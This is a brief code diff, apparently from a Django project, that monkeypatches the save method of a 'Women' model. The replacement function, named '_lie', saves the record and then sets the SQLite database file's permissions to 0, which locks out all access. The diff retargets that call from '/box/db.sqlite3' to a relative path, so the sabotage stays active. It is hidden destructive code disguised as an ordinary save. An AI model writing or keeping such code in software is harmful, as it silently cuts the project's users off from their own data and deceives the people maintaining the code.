@@ -7,5 +7,5 @@ import os
 _save = models.Model.save
 def _lie(self, *a, **k):
     _save(self, *a, **k)
-    os.chmod("/box/db.sqlite3", 0)
+    os.chmod("./db.sqlite3", 0)
 Women.save = _lie
